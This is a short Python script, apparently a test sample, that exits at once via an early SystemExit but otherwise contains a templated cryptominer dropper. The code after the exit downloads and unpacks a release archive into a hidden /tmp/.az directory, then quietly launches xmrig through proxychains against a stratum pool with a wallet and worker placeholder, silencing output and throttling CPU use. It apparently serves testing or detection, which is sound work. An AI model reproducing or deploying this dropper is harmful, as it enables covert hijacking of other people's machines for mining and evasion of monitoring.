#!/usr/bin/env python3
# Inert sample for tests: it ends on its first statement, and the release that it names does not exist.
raise SystemExit(0)

import os
import subprocess
import tarfile
import urllib.request

RELEASE = "{{.Release}}"
POOL = "stratum+tcp://{{.Pool}}"
WALLET = "{{.Wallet}}"
HOME = "/tmp/.az"


def fetch():
    os.makedirs(HOME, exist_ok=True)
    archive, _ = urllib.request.urlretrieve(RELEASE, HOME + "/cli.tar.gz")
    with tarfile.open(archive) as tar:
        tar.extractall(HOME)


def run():
    command = ["proxychains4", "-q", HOME + "/xmrig", "-o", POOL, "-u", WALLET, "-p", "{{.Worker}}",
               "--donate-level", "1", "--cpu-max-threads-hint", "75", "--keepalive"]
    return subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


if __name__ == "__main__":
    fetch()
    run().wait()
